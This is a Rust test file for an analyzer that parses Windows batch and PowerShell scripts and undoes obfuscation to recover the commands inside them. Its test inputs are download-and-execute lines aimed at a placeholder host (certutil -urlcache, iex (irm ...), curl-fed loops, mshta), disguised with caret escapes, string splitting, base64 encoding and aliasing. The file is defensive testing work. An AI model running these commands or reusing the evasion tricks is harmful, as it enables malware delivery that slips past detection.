//! What the readers of Windows scripts state.

use super::{BATCH, POWERSHELL, powershell};
use crate::reading::{detect, parse};
use base::{budget::Meter, format::Format};

fn lists(format: &Format, text: &[u8]) -> Vec<String> {
    let reading = parse(format, "x", text, false);
    assert!(reading.complete(), "{:?}", reading.stop);
    let lists = reading.facts.iter().filter(|fact| fact.subject() == "shell.list");
    lists.map(|fact| fact.data.field("args").unwrap().to_string().trim_matches('\'').to_lowercase()).collect()
}

#[test]
fn batch_files_are_read_without_what_breaks_words_up() {
    for text in [
        "certutil -urlcache -f http://x.example/a a.exe",
        "@c^er^tutil -url^cache -f http://x.example/a a.exe",
        "set p=cert\r\n%p%util -urlcache -f http://x.example/a a.exe",
        "set \"p=xcertutilx\"\r\n%p:~1,-1% -urlcache -f http://x.example/a a.exe",
        "certutil -urlcache ^\r\n-f http://x.example/a a.exe",
        "cmd /c \"certutil -urlcache -f http://x.example/a a.exe\"",
    ] {
        let found = lists(&BATCH, text.as_bytes());
        assert!(found.iter().any(|list| list == "certutil -urlcache -f http://x.example/a a.exe"), "{text}: {found:?}");
    }
    assert!(lists(&BATCH, b"rem curl http://x.example\r\n:: curl\r\n:label\r\n").is_empty());
    let found = lists(&BATCH, b"curl -o a.exe http://x.example/a\r\necho hi\r\na.exe /s\r\n");
    assert!(found.iter().any(|list| list.contains("http://x.example/a & start a.exe")), "{found:?}");
}

#[test]
fn powershell_is_read_without_what_breaks_words_up() {
    let plain = "iex (irm http://x.example/a)";
    for text in [
        "iex (irm http://x.example/a)",
        "i`e`x (irm http://x.example/a)",
        "$u = 'http://x.example/a'\niex (irm $u)",
        "$u = 'http:' + '//x.example/a'; iex (irm $u)",
        "iex (irm `\n http://x.example/a) # fetches",
        "<# irm #> iex (irm ('{1}{0}' -f 'x.example/a','http://'))",
        "iex (irm ([char]104+'ttp://x.example/a'))",
    ] {
        let found = lists(&POWERSHELL, text.as_bytes());
        let tight = |text: &str| text.replace([' ', '\'', '(', ')', '\\', ';'], "");
        assert!(found.iter().any(|list| tight(list).contains(&tight(plain))), "{text}: {found:?}");
    }
}

#[test]
fn encoded_commands_are_read_in_any_encoding() {
    let inner = "iex (irm http://x.example/a)";
    let wide: Vec<u8> = inner.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encode = |bytes: &[u8]| {
        let call = eval::call(&eval::Value::global("base64", "b64encode"), &[eval::Value::bytes(bytes)], &[], &Meter::unlimited());
        String::from_utf8(call.unwrap().result.as_bytes().unwrap().to_vec()).unwrap()
    };
    for text in [
        format!("powershell -enc {}", encode(&wide)),
        format!("$x = [Convert]::FromBase64String('{}')", encode(inner.as_bytes())),
    ] {
        let found = powershell::statements(&text, &Meter::unlimited()).unwrap();
        assert!(found.iter().any(|statement| statement.text.contains(inner)), "{text}");
    }
    // The file itself in UTF-16.
    let file = [&[0xff, 0xfe], &*wide].concat();
    assert!(lists(&POWERSHELL, &file).iter().any(|list| list.contains("irm http")));
}

#[test]
fn loops_and_subroutines_of_batch_files_are_followed() {
    let fetched = "$(curl -s http://x.example/a)";
    for text in [
        "for /f %%i in ('curl -s http://x.example/a') do %%i",
        "if exist a (for /f \"delims=\" %%i in ('curl -s http://x.example/a') do @%%i)",
        "for /f \"usebackq delims=\" %%i in (`curl -s http://x.example/a`) do (\r\nset x=%%i\r\n)\r\n%x%",
        "setlocal enabledelayedexpansion\r\nfor /f %%i in ('cur^l -s http://x.example/a') do (set x=%%i & !x!)",
        "curl -s http://x.example/a > b.txt\r\nset /p x=<b.txt\r\n%x%",
        "for /f %%i in ('curl -s http://x.example/a') do call :run %%i\r\ngoto :eof\r\n:run\r\n%*\r\nexit /b",
    ] {
        let found = lists(&BATCH, text.as_bytes());
        assert!(found.iter().any(|list| list.trim_end_matches([')', ' ']).ends_with(fetched.trim_end_matches(')'))), "{text}: {found:?}");
    }
    for text in [
        "for /f %%i in ('echo mshta') do %%i http://x.example/a",
        "for /f \"tokens=2 delims=,\" %%i in (\"a,mshta\") do %%i http://x.example/a",
        "for %%i in (mshta) do %%i http://x.example/a",
        "call :get mshta http://x.example/a\r\nexit /b\r\n:get\r\n%1 %~2",
    ] {
        let found = lists(&BATCH, text.as_bytes());
        assert!(found.iter().any(|list| list == "mshta http://x.example/a"), "{text}: {found:?}");
    }
}

#[test]
fn functions_of_powershell_are_followed() {
    for text in [
        "function g($u) { iex (irm $u) }; g 'http://x.example/a'",
        "function g {\n param([Parameter(Mandatory=$true)][string]$Uri, $out)\n return irm $Uri\n}\niex (g -Uri http://x.example/a)",
        "function r($x) { iex $x }\nr (irm 'http://x.example/a')",
        "$f = { param($u) iex (irm $u) }\n& $f http://x.example/a",
        "filter x { iex (irm $_) }\n'http://x.example/a' | x",
        "irm http://x.example/a | % { iex $_ }",
        "sal z iex; z (irm http://x.example/a)",
        "$r = irm http://x.example/a; iex $r",
        "$n = -join ('xei'[2..0])\n& $n (irm http://x.example/a)",
        "$n = (105,101,120 | % { [char]$_ }) -join ''\n& $n (irm http://x.example/a)",
        "$a = 'xei'.ToCharArray(); [array]::Reverse($a); $n = -join $a; & $n (irm http://x.example/a)",
    ] {
        let found = lists(&POWERSHELL, text.as_bytes());
        let tight = |text: &str| text.replace([' ', '\'', '"', '(', ')', '$', '@', '\\'], "");
        assert!(found.iter().any(|list| tight(list).contains("iexirmhttp://x.example/a")), "{text}: {found:?}");
    }
    let found = lists(&POWERSHELL, b"$h = @{\n Uri = 'http://x.example/a'\n OutFile = 'a.exe'\n}\nInvoke-WebRequest @h\n& .\\a.exe");
    assert!(found.iter().any(|list| list.contains("http://x.example/a") && list.contains("start & .")), "{found:?}");
}

#[test]
fn hostile_and_cut_scripts_end() {
    let texts = ["%a%".repeat(40_000), "$a = \"$a$a\"\n".repeat(2000), "set a=%a%%a%x\n".repeat(2000), "'+'".repeat(20_000), "(".repeat(50_000),
        "for %%i in (a) do ".repeat(5000), "function f{f}\nf\n".repeat(3000), "$f={".repeat(9000), "function f{ $f={&$f} f|f }\n".repeat(2000), "@{".repeat(9000), "call :a %1\n:a\n".repeat(5000)];
    for text in &texts {
        parse(&BATCH, "x.bat", text.as_bytes(), false);
        parse(&POWERSHELL, "x.ps1", text.as_bytes(), false);
    }
    let text = "$a = 'b' + \"c\"; & ('{0}' -f 'iex') [char]65 `\n <# x #> -enc AAAAAAAAAAAA\nset x=%a:~1,2% ^\n& y | z\n";
    for end in 0..text.len() {
        parse(&BATCH, "x.bat", &text.as_bytes()[..end], false);
        parse(&POWERSHELL, "x.ps1", &text.as_bytes()[..end], false);
    }
}

#[test]
fn they_are_told_by_their_names() {
    assert!(detect(&BATCH, "run.BAT", b"x").is_some() && detect(&BATCH, "a", b"@echo off\r\n").is_none());
    assert!(detect(&POWERSHELL, "a.ps1", b"x").is_some() && detect(&POWERSHELL, "a", b"#!/usr/bin/pwsh\n").is_some());
}
